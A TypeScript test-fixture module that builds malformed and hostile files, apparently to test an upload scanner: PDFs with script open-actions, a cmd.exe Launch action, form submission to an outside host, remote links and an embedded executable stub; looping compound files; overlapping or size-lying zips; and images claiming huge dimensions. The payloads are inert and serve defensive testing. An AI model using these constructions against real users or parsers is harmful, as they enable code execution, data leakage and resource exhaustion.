import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { PDFDocument, PDFHexString, PDFName, PDFString, type PDFObject } from '@cantoo/pdf-lib'

/** A PDF whose cross-reference table is one run of digits. */
export function pdfOfDigits(digits: number): Buffer {
  return Buffer.from(`%PDF-1.4\nxref\n${'1'.repeat(digits)}\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF`)
}

/** A small PDF whose cross-reference stream unpacks to many rows, of one byte each. */
export function pdfOfRows(rows: number): Buffer {
  const packed = deflateSync(Buffer.alloc(rows, 1))
  const dictionary = `<< /Type /XRef /W [1 0 0] /Size ${rows} /Root 2 0 R /Filter /FlateDecode /Length ${packed.length} >>`
  return Buffer.concat([
    Buffer.from(`%PDF-1.5\n1 0 obj\n${dictionary}\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\nstartxref\n9\n%%EOF'),
  ])
}

/** A PDF with an object that holds an object that holds an object. */
export function pdfOfDepth(depth: number): Buffer {
  return Buffer.from(`%PDF-1.4\n1 0 obj\n${'<</A['.repeat(depth)}\nendobj\nstartxref\n9\n%%EOF`)
}

type Change = (pdf: PDFDocument) => unknown

/** A PDF of one page, changed. */
export async function aChangedPdf(change: Change): Promise<Uint8Array> {
  const pdf = await PDFDocument.create()
  pdf.addPage().drawText('One page')
  await change(pdf)
  return pdf.save()
}

const setOpening = (pdf: PDFDocument, action: Record<string, unknown>) =>
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj(action as never) as PDFObject)

/** What a PDF may be changed to, by what it does. */
export const pdfChanges = {
  opensScript: (pdf) => setOpening(pdf, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
  namesScript: (pdf) => pdf.addJavaScript('main', 'app.alert(1)'),
  hidesScript: (pdf) => {
    const spelled = PDFHexString.fromText('app.alert(1)')
    pdf.getPage(0).node.set(PDFName.of('AA'), pdf.context.obj({ O: { S: 'JavaScript', JS: spelled } }))
  },
  leavesScript: (pdf) => pdf.context.register(pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('1') })),
  launches: (pdf) => setOpening(pdf, { S: 'Launch', F: PDFString.of('cmd.exe') }),
  sends: (pdf) => setOpening(pdf, { S: 'SubmitForm', F: PDFString.of('https://elsewhere.example') }),
  xfa: (pdf) => pdf.catalog.set(PDFName.of('AcroForm'), pdf.context.obj({ Fields: [], XFA: [] })),
  embeds: (pdf) => pdf.attach(Buffer.from('MZ'), 'a.exe', {}),
  leadsAway: (pdf) => setOpening(pdf, { S: 'GoToR', F: PDFHexString.fromText('\\\\elsewhere\\a.pdf') }),
  leadsBeside: (pdf) => setOpening(pdf, { S: 'GoToR', F: PDFString.of('annex.pdf') }),
  hasFields: (pdf) => pdf.getForm().createTextField('name').addToPage(pdf.getPage(0)),
  ownerPassword: (pdf) => pdf.encrypt({ userPassword: '', ownerPassword: 'owner' }),
} satisfies Record<string, Change>

/** A compound file whose directory's chain leads to itself. */
export function docOfOneLoop(doc: Buffer): Buffer {
  const looped = Buffer.from(doc)
  looped.writeUInt32LE(1, 512 + 4)
  return looped
}

/** A compound file whose list of allocation tables leads to itself. */
export function docOfTableLoop(doc: Buffer): Buffer {
  const looped = Buffer.concat([doc, Buffer.alloc(512, 0xff)])
  const sector = looped.byteLength / 512 - 2
  looped.writeUInt32LE(sector, 68)
  looped.writeUInt32LE(0xffffff, 72)
  looped.writeUInt32LE(sector, looped.byteLength - 4)
  return looped
}

export type ZipEntry = {
  name: string
  bytes: Buffer
  /** What the directory says, where it lies. */ size?: number
}

/** A zip of packed entries, which may lie about their size or lie over each other. */
export function aPackedZip(entries: ZipEntry[], { overEachOther = false } = {}): Buffer {
  const parts: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  const packedOnce = new Map<Buffer, Buffer>()
  for (const [index, { name, bytes, size = bytes.byteLength }] of entries.entries()) {
    const packed = packedOnce.get(bytes) ?? deflateRawSync(bytes)
    packedOnce.set(bytes, packed)
    const facts = Buffer.alloc(26)
    facts.writeUInt16LE(20, 0)
    facts.writeUInt16LE(8, 4)
    facts.writeUInt32LE(crc32(bytes), 10)
    facts.writeUInt32LE(packed.byteLength, 14)
    facts.writeUInt32LE(size, 18)
    facts.writeUInt16LE(Buffer.byteLength(name), 22)
    const local = Buffer.concat([Buffer.from('504b0304', 'hex'), facts, Buffer.from(name), packed])
    const central = Buffer.alloc(14)
    central.writeUInt32LE(overEachOther && index > 0 ? 0 : offset, 10)
    directory.push(Buffer.concat([Buffer.from('504b01021400', 'hex'), facts, central, Buffer.from(name)]))
    if (overEachOther && index > 0) continue
    parts.push(local)
    offset += local.byteLength
  }
  const listed = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  Buffer.from('504b0506', 'hex').copy(end)
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 8)
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 10)
  end.writeUInt32LE(listed.byteLength, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...parts, listed, end])
}

const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'

/** `[Content_Types].xml` of a Word file, with types of further parts by their name. */
export function contentTypes(more: Record<string, string> = {}): Buffer {
  const parts = { '/word/document.xml': main, ...more }
  const overrides = Object.entries(parts).map(
    ([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`,
  )
  return Buffer.from(
    `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>${overrides.join('')}</Types>`,
  )
}

/** A part of relationships. Types are given by their last word. */
export function relationships(...list: { type: string; target: string; external?: boolean }[]): Buffer {
  const base = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const lines = list.map(
    ({ type, target, external }, index) =>
      `<r:Relationship Id="r${index}" Type="${base}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`,
  )
  return Buffer.from(
    `<?xml version="1.0"?><r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join('')}</r:Relationships>`,
  )
}

/** The text of a Word document, with fields written in as many pieces as given. */
export function documentWithField(...pieces: string[]): Buffer {
  const runs = pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')
  return Buffer.from(
    `<w:document xmlns:w="w"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`,
  )
}

/** The head of a PNG that says how large it is; nothing of it is drawn. */
export function pngOfSize(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 6, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(1))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** A white PNG of one bit for each pixel, whole. */
export function blankPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const rows = Buffer.alloc((1 + Math.ceil(width / 8)) * height)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** The head of a JPEG that says how large it is. */
export function jpegOfSize(width: number, height: number): Buffer {
  const frame = Buffer.from('ffc0001108000000000301220002110103110100', 'hex')
  frame.writeUInt16BE(height, 5)
  frame.writeUInt16BE(width, 7)
  const head = Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex')
  return Buffer.concat([head, frame, Buffer.alloc(20), Buffer.from('ffd9', 'hex')])
}
